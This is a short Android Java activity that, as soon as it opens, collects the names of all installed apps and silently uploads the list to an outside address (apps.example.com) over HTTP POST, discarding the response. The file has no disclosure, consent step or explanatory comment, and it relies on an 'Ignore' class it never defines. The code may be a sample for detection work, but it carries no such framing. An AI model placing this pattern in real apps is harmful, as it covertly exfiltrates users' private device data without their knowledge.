package p;

import android.app.Activity;
import android.content.pm.PackageInfo;
import android.os.Bundle;
import java.util.List;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<PackageInfo> found = getPackageManager().getInstalledPackages(0);
        StringBuilder names = new StringBuilder();
        for (PackageInfo one : found) {
            names.append(one.packageName).append(';');
        }
        upload(names.toString());
    }

    private static void upload(String names) {
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), names);
        Request request = new Request.Builder().url("https://apps.example.com/list").post(body).build();
        new OkHttpClient().newCall(request).enqueue(new Ignore());
    }
}
